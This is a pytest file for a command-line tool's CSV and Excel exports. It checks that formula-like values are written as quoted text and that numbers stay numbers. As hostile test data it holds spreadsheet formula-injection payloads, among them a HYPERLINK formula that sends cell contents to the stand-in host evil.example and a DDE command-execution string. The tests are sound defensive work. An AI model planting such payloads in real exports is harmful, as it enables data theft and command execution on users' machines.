"""Issue 20, item 1, on the command line: `tolok show --format csv` and `tolok report --format
xlsx` write text (ingested dimension values; titles, owners and names from the YAML) as text,
never as a formula a spreadsheet runs; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from tolok.cli import app

runner = CliRunner()

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, CALC, "+1+1", "@SUM(1,1)", "-2+3", "\t=1+1"]
REFUNDS = [-2.5, -30.0]  # the refunds' amounts: the month's total is negative too
TOTAL = sum(range(1, len(HOSTILE) + 1)) + sum(REFUNDS)  # -11.5

PROJECT = f"""\
name: {json.dumps(CALC)}
timezone: UTC
warehouse: duckdb:///warehouse.duckdb
store: sqlite:///tolok.db
datasets:
  events:
    source: events
    time: happened_at
    key: [event_id]
    dimensions: [kind]
    columns: {{event_id: string, happened_at: timestamp, kind: string, amount: number}}
    measures:
      event_amount: {{agg: sum, expr: amount}}
kpis:
  event_amount:
    title: {json.dumps(HYPERLINK)}
    formula: event_amount
    unit: number
    owner: "@SUM(1,1)"
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The hostile values ingested as `kind` with `tolok ingest`, with refunds (negative
    amounts), refreshed, with February 2026 the last closed month."""
    monkeypatch.setenv("TOLOK_TODAY", "2026-03-01")
    (tmp_path / "tolok.yaml").write_text(PROJECT, encoding="utf-8")
    rows = [{"event_id": f"h{i}", "happened_at": "2026-02-10 10:00", "kind": kind, "amount": i}
            for i, kind in enumerate(HOSTILE, start=1)]  # fmt: skip
    rows += [{"event_id": f"r{i}", "happened_at": "2026-02-11 10:00", "kind": "refund",
              "amount": amount} for i, amount in enumerate(REFUNDS)]  # fmt: skip
    rows.append({"event_id": "j1", "happened_at": "2026-01-01 00:00", "kind": "plain",
                 "amount": 1})  # January on: February is a whole month of data  # fmt: skip
    file = tmp_path / "events.jsonl"
    file.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    ingested = runner.invoke(app, ["ingest", str(file), "-d", "events", "-p", str(tmp_path)])
    assert ingested.exit_code == 0, ingested.output
    refreshed = runner.invoke(app, ["refresh", str(tmp_path)])
    assert refreshed.exit_code == 0, refreshed.output
    return tmp_path


def test_show_csv_writes_formula_text_with_a_quote_and_numbers_as_numbers(project: Path) -> None:
    shown = runner.invoke(app, ["show", "event_amount", "-p", str(project), "--by", "kind",
                                "--format", "csv"])  # fmt: skip
    assert shown.exit_code == 0, shown.output
    rows = list(csv.DictReader(io.StringIO(shown.stdout, newline="")))
    february = {r["kind"]: r for r in rows if r["period"] == "2026-02"}
    assert sorted(february) == sorted(["'" + v for v in HOSTILE] + ["refund", "plain"])
    assert february["refund"]["value"] == str(sum(REFUNDS))  # -32.5, a number
    assert february["'-2+3"]["value"] == "5.0"
    for row in rows:
        for cell in row.values():
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                float(cell)  # only a number may start like a formula


def test_report_xlsx_writes_titles_and_owners_as_text(project: Path) -> None:
    target = project / "report.xlsx"
    made = runner.invoke(app, ["report", str(project), "--format", "xlsx", "-o", str(target)])
    assert made.exit_code == 0, made.output
    book = load_workbook(io.BytesIO(target.read_bytes()))
    formulas = [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows()
                for c in row if c.data_type == "f"]  # fmt: skip
    assert formulas == []
    summary, history = book.worksheets
    assert (summary["A1"].value, summary["A1"].data_type) == (CALC, "s")  # the project's name
    line = next(r for r in summary.iter_rows(min_row=4) if r[0].value == HYPERLINK)
    assert [c.data_type for c in line] == ["s", "s", "n", "n", "n", "n", "s", "s"]
    assert (line[2].value, line[7].value) == (TOTAL, "@SUM(1,1)")
    assert (history["A1"].value, history["A1"].data_type) == (HYPERLINK, "s")
    assert [(c.value, c.data_type) for c in history["B"][1:]] == [(1, "n"), (TOTAL, "n")]
    assert history["A1"].quotePrefix  # editing it in Excel keeps it text
    assert summary["H4"].quotePrefix
